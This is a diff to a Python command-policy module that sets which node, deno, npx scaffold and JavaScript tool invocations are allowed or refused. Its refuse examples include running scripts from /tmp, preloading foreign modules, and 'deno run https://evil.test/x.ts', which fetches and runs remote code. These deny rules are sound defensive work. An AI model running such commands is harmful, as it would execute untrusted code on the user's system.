@@ -1,32 +1,40 @@
 """Rules for node, deno and the tools of their projects."""
 
 from treadle.policy.commands.language import Rule
-from treadle.policy.commands.tools import INSTEAD, tools
+from treadle.policy.commands.tools import INSTEAD, tool, tools
 
 _NODE = (
     "-v -h -c -e=text -p=text -i --version --help --check --eval=text --print=text --test --watch"
     " --test-name-pattern=text --test-reporter=text --test-only --test-concurrency=number"
     " --test-timeout=number --experimental-test-coverage --enable-source-maps --trace-warnings"
-    " --trace-deprecation --no-warnings --no-deprecation --throw-deprecation --stack-trace-limit=number"
+    " --trace-deprecation --no-warnings --no-deprecation --throw-deprecation"
+    " --stack-trace-limit=number"
     " --max-old-space-size=number --experimental-strip-types --experimental-transform-types"
     " --experimental-vm-modules --experimental-modules --experimental-specifier-resolution=text"
     " --input-type=text --expose-gc --unhandled-rejections=text --trace-uncaught --prof --cpu-prof"
-    " --inspect[text] --inspect-brk[text] -r=preload --require=preload --import=preload --loader=preload"
+    " --inspect[text] --inspect-brk[text] -r=preload --require=preload --import=preload"
+    " --loader=preload"
     " --experimental-loader=preload --conditions=text -C=text --preserve-symlinks --run=script"
     " --disable-warning=text --watch-path=run --env-file-if-exists=run --env-file=look"
 )
-_DENO = "--allow-read[near] --allow-net[text] --allow-env[text] --allow-write[near] -A --allow-all --watch --no-check --quiet -q --unstable"
+_DENO = (
+    "--allow-read[near] --allow-net[text] --allow-env[text] --allow-write[near] -A"
+    " --allow-all --watch --no-check --quiet -q --unstable"
+)
 
 _SCAFFOLDS = (
-    "create-vite create-next-app create-react-app create-astro create-remix create-svelte create-vue"
+    "create-vite create-next-app create-react-app create-astro create-remix"
+    " create-svelte create-vue"
     " create-nuxt create-expo-app create-t3-app create-hono create-docusaurus sv nuxi shadcn"
 )
 _TOOLS = (
     "vitest jest mocha ava tap c8 nyc tsc tsx ts-node vue-tsc svelte-check eslint prettier biome"
     " stylelint esbuild vite webpack webpack-cli rollup parcel tsup swc next nuxt astro remix"
-    " storybook playwright cypress prisma drizzle-kit knex typeorm sequelize tailwindcss postcss sass"
-    " nodemon concurrently turbo nx lerna changeset typedoc jsdoc madge knip depcheck husky"
-    " lint-staged commitlint nest ng expo wrangler serve http-server json-server msw graphql-codegen"
+    " storybook playwright cypress prisma drizzle-kit knex typeorm sequelize"
+    " tailwindcss postcss sass"
+    " turbo nx lerna changeset typedoc jsdoc madge knip depcheck"
+    " lint-staged commitlint nest ng expo wrangler serve http-server json-server msw"
+    " graphql-codegen"
     " openapi-typescript size-limit oxlint rspack rsbuild wait-on npm-check-updates xo standard"
 )
 
@@ -38,10 +46,21 @@ RULES: tuple[Rule, ...] = (
         stops=True,
         check="interpreter",
         instead="Run a file of the project: node dist/server.js.",
-        allows=("node dist/server.js", "node -e 'console.log(1)'", "node --test",
-                "node -r dotenv/config app.js", "node scripts/seed.js --name \"O'Brien\""),
-        refuses=("node -r ./e.js app.js", "node /tmp/evil.js", "node", "node --require=/tmp/e x.js",
-                 "node ../x.js", "node -i"),
+        allows=(
+            "node dist/server.js",
+            "node -e 'console.log(1)'",
+            "node --test",
+            "node -r dotenv/config app.js",
+            'node scripts/seed.js --name "O\'Brien"',
+        ),
+        refuses=(
+            "node -r ./e.js app.js",
+            "node /tmp/evil.js",
+            "node",
+            "node --require=/tmp/e x.js",
+            "node ../x.js",
+            "node -i",
+        ),
     ),
     Rule(
         "deno",
@@ -59,9 +78,24 @@ RULES: tuple[Rule, ...] = (
             Rule("bench", _DENO, "code..."),
         ),
         allows=("deno run main.ts", "deno test"),
-        refuses=("deno run https://evil.test/x.ts", "deno install x", "deno eval x", "deno upgrade"),
+        refuses=(
+            "deno run https://evil.test/x.ts",
+            "deno install x",
+            "deno eval x",
+            "deno upgrade",
+        ),
     ),
     *tools(_TOOLS),
-    *(Rule(name, style="open", mode="run", instead=INSTEAD, allows=(f"npx {name} app",),
-           refuses=(f"npx {name} ../app", f"npx {name} /tmp/x")) for name in _SCAFFOLDS.split()),
-)  # fmt: skip
+    tool("nodemon", never="--exec -x -r --require --config", refuses="nodemon -x ./e"),
+    *(
+        Rule(
+            name,
+            style="open",
+            mode="run",
+            instead=INSTEAD,
+            allows=(f"npx {name} app",),
+            refuses=(f"npx {name} ../app", f"npx {name} /tmp/x"),
+        )
+        for name in _SCAFFOLDS.split()
+    ),
+)
